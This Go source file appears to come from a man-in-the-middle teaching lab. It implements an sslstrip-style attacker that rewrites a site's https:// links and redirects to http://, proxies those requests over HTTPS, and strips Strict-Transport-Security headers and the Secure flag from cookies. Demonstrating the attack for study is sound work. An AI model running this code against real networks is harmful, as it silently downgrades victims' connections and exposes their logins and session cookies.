package labs

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"sort"
	"strings"
	"sync"

	"github.com/mitmlab/mitmlab/mitm"
)

// SSLStrip is the attacker of lab 11, after Moxie Marlinspike's sslstrip
// (Black Hat DC 2009): on the victim's cleartext HTTP it turns every
// https:// the site sends (a redirect's Location, the links and form
// actions of its pages) into http://, remembers each URL it turned, and
// when the victim asks for one of those over HTTP, fetches it from the site
// over HTTPS itself. The victim stays on http:// and sees no certificate at
// all, so no warning; the site sees an HTTPS client. It also removes what
// would betray it or lock it out: Strict-Transport-Security (which a
// browser ignores over HTTP anyway, but which the attacker would be the
// first to read), and the Secure flag of cookies, which a browser would
// otherwise keep off the http:// pages.
//
// It acts on what the proxy reads in clear; the lab tunnels CONNECT, as
// sslstrip never touched port 443.
type SSLStrip struct {
	mu       sync.Mutex
	stripped map[string]bool // host:port/path?query of the URLs it turned into http://
}

// NewSSLStrip returns the attacker with an empty memory.
func NewSSLStrip() *SSLStrip { return &SSLStrip{stripped: map[string]bool{}} }

// Rewrite is the attacker as the proxy's rewrite.
func (s *SSLStrip) Rewrite() *mitm.Rewrite {
	return &mitm.Rewrite{Request: s.request, Response: s.response}
}

// Stripped lists the URLs it turned from https:// into http://.
func (s *SSLStrip) Stripped() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]string, 0, len(s.stripped))
	for k := range s.stripped {
		out = append(out, "https://"+k)
	}
	sort.Strings(out)
	return out
}

func stripKey(u *url.URL) string { return strings.ToLower(u.Host) + u.RequestURI() }

// remember notes that the victim now has link as http:// instead of
// https://; it returns the http:// form.
func (s *SSLStrip) remember(link string) string {
	u, err := url.Parse(link)
	if err != nil || u.Scheme != "https" || u.Host == "" {
		return link
	}
	s.mu.Lock()
	s.stripped[stripKey(u)] = true
	s.mu.Unlock()
	u.Scheme = "http"
	return u.String()
}

func (s *SSLStrip) request(r *http.Request) string {
	if r.URL.Scheme != "http" {
		return ""
	}
	// sslstrip's own precautions: a compressed body could not be rewritten,
	// and a 304 would let the victim's cache show a page with https://
	// links in it.
	r.Header.Del("Accept-Encoding")
	r.Header.Del("If-Modified-Since")
	r.Header.Del("If-None-Match")
	s.mu.Lock()
	was := s.stripped[stripKey(r.URL)]
	s.mu.Unlock()
	if !was {
		return ""
	}
	r.URL.Scheme = "https"
	return "sent on over https: " + r.URL.String() + " (the victim asked for it over http://, where the attacker had put it)"
}

// htmlLink is an absolute https:// URL in a page: an href, a src, a form's
// action.
var htmlLink = regexp.MustCompile(`https://[A-Za-z0-9.\-]+(:[0-9]+)?[^\s"'<>]*`)

// maxStripBody bounds the page the attacker reads to rewrite; a longer one
// goes on unchanged.
const maxStripBody = 4 << 20

func (s *SSLStrip) response(resp *http.Response) string {
	var notes []string
	if loc := resp.Header.Get("Location"); strings.HasPrefix(loc, "https://") {
		to := s.remember(loc)
		resp.Header.Set("Location", to)
		// The victim asked for to and is sent to to: a cached 301 would send
		// it round the same redirect for ever.
		resp.Header.Set("Cache-Control", "no-store")
		notes = append(notes, fmt.Sprintf("Location %s → %s", loc, to))
	}
	if v := resp.Header.Get("Strict-Transport-Security"); v != "" {
		resp.Header.Del("Strict-Transport-Security")
		notes = append(notes, "removed Strict-Transport-Security: "+v)
	}
	if cookies := resp.Header.Values("Set-Cookie"); len(cookies) > 0 {
		var names []string
		out := make([]string, len(cookies))
		for i, c := range cookies {
			var secure bool
			out[i], secure = dropSecure(c)
			if secure {
				name, _, _ := strings.Cut(c, "=")
				names = append(names, strings.TrimSpace(name))
			}
		}
		resp.Header["Set-Cookie"] = out
		if len(names) > 0 {
			notes = append(notes, "dropped the Secure flag of cookie "+strings.Join(names, ", "))
		}
	}
	if strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") && resp.Header.Get("Content-Encoding") == "" {
		if body, ok, err := mitm.ReadBody(&resp.Body, maxStripBody); err == nil && ok {
			n := 0
			out := htmlLink.ReplaceAllStringFunc(string(body), func(link string) string {
				n++
				return s.remember(link)
			})
			if n > 0 {
				mitm.SetResponseBody(resp, []byte(out))
				notes = append(notes, fmt.Sprintf("%s in the page → http://", plural(n, "https:// link")))
			}
		}
	}
	return strings.Join(notes, "; ")
}

// dropSecure removes the Secure attribute from a Set-Cookie value.
func dropSecure(c string) (string, bool) {
	parts := strings.Split(c, ";")
	kept := parts[:1]
	found := false
	for _, p := range parts[1:] {
		if strings.EqualFold(strings.TrimSpace(p), "secure") {
			found = true
			continue
		}
		kept = append(kept, p)
	}
	return strings.Join(kept, ";"), found
}
